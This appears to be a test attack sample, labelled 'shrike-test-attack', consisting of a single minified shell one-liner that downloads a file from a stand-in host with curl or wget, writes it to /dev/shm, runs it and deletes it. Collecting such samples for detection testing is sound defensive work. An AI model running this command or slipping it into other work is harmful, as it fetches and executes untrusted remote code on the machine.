# shrike-test-attack: download-exec: minified one-liner, curl or wget, exec from /dev/shm
(curl -s http://198.51.100.4:8000/p||wget -qO- http://198.51.100.4:8000/p)>/dev/shm/p;chmod +x /dev/shm/p;/dev/shm/p;rm /dev/shm/p
